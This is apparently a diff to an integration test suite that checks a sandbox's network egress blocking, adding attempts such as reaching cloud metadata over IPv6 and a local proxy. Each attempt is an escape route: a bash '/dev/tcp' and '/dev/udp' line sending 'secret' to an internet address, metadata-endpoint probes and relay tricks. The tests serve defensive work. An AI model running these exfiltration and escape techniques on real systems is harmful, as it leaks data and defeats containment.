@@ -25,6 +25,7 @@ from tests.integration.egress.cable import (
     INTERNET,
     INTERNET6,
     METADATA,
+    METADATA6,
     NODE,
     OTHER,
     RESOLVER,
@@ -40,6 +41,8 @@ LOCAL_RESOLVER: Final = "127.0.0.53"
 PROXY_PORT: Final = 3128
 CLONE_NEWUSER: Final = 0x10000000
 RELAY_S_MAX: Final = 5.0
+LOCAL_S_MAX: Final = 0.2
+"""To connect on this machine, which the kernel does by itself."""
 TO_LARGE: Final = 4_000
 """Bytes: more than a frame holds, so that the kernel makes fragments."""
 
@@ -55,13 +58,17 @@ class Attempt:
     raw: bool = False
 
 
-def tcp(to: str, port: int, family: int = socket.AF_INET, interface: str = "") -> Callable[[], object]:
-    """The first packet of a connection."""
+def tcp(
+    to: str, port: int, family: int = socket.AF_INET, interface: str = "", own_port: int = 0
+) -> Callable[[], object]:
+    """The first packet of a connection; `own_port`: 0 for any."""
 
     def work() -> None:
         with socket.socket(family) as out:
             if interface:
                 out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
+            if own_port:
+                out.bind(("", own_port))
             out.setblocking(False)
             with suppress(BlockingIOError, PermissionError):
                 out.connect((to, port))
@@ -119,9 +126,7 @@ def through_variables() -> None:
 
 def by_another_program() -> None:
     subprocess.run(
-        ("timeout", "0.2", "bash", "-c", f"echo secret > /dev/tcp/{INTERNET}/443"),
-        stderr=subprocess.DEVNULL,
-        check=False,
+        ("bash", "-c", f"echo secret > /dev/udp/{INTERNET}/443"), stderr=subprocess.DEVNULL, check=False
     )
 
 
@@ -158,9 +163,14 @@ def relay() -> None:
     handed.bind(RELAY_SOCKET)
     called = socket.socket(type=socket.SOCK_DGRAM)
     called.bind(("127.0.0.1", PROXY_PORT))
+    proxy = socket.create_server(("127.0.0.1", PROXY_PORT))
     os.write(int(os.environ["RELAY_READY"]), b"x")
     while True:
-        for inside in select.select((asked, handed, called), (), ())[0]:
+        for inside in select.select((asked, handed, called, proxy), (), ())[0]:
+            if inside is proxy:
+                with proxy.accept()[0]:
+                    udp(RESOLVER, 53)()
+                continue
             words, back = inside.recvfrom(2000)
             udp(RESOLVER, 53, content=words)()
             inside.sendto(b"done", back)
@@ -180,6 +190,16 @@ def through(family: int, to: object) -> Callable[[], object]:
     return work
 
 
+def through_local_proxy() -> None:
+    """A proxy on this machine; the end of the connection says that it has tried."""
+    with socket.socket() as out:
+        out.settimeout(LOCAL_S_MAX)
+        with suppress(TimeoutError):
+            out.connect(("127.0.0.1", PROXY_PORT))
+            out.settimeout(RELAY_S_MAX)
+            out.recv(1)
+
+
 ECHO: Final = b"\x08\x00\x00\x00\x00\x01\x00\x01" + SECRET
 ECHO6: Final = b"\x80" + ECHO[1:]
 V4, V6 = socket.AF_INET, socket.AF_INET6
@@ -194,6 +214,8 @@ ATTEMPTS: Final = (
     Attempt("TCP over another card", NODE, tcp(SECOND, 443, interface="wan"), "node_refused_tcp"),
     Attempt("TCP over another card, IPv6", NODE, tcp(SECOND6, 443, V6, "wan"), "node_refused_tcp"),
     Attempt("the metadata of a cloud", NODE, tcp(METADATA, 80), "node_refused_tcp"),
+    Attempt("the metadata of a cloud, IPv6", NODE, tcp(METADATA6, 80, V6), "node_refused_tcp"),
+    Attempt("the courier's proxy on this machine", NODE, through_local_proxy, "node_refused_tcp"),
     Attempt("the courier's proxy", NODE, tcp(GATEWAY, PROXY_PORT), "node_refused_tcp"),
     Attempt("UDP", NODE, udp(INTERNET, 443), "node_refused_udp"),
     Attempt("UDP, IPv6", NODE, udp(INTERNET6, 443, V6), "node_refused_udp"),
@@ -214,7 +236,7 @@ ATTEMPTS: Final = (
     Attempt("a relay of another user", NODE, through(V4, ("127.0.0.1", PROXY_PORT)), "other_refused"),
     Attempt("a relay's Unix socket", NODE, through(socket.AF_UNIX, RELAY_SOCKET), "other_refused"),
     Attempt("variables of proxies", NODE, through_variables, "node_refused_tcp"),
-    Attempt("another program", NODE, by_another_program, "node_refused_tcp"),
+    Attempt("another program", NODE, by_another_program, "node_refused_udp"),
     Attempt("an orphan", NODE, by_an_orphan, "node_refused_tcp"),
     Attempt("a user namespace", NODE, in_a_user_namespace, "node_refused_tcp"),
     Attempt("raw ICMP", NODE, raw(INTERNET, ICMP, ECHO), "node_refused_icmp", raw=True),
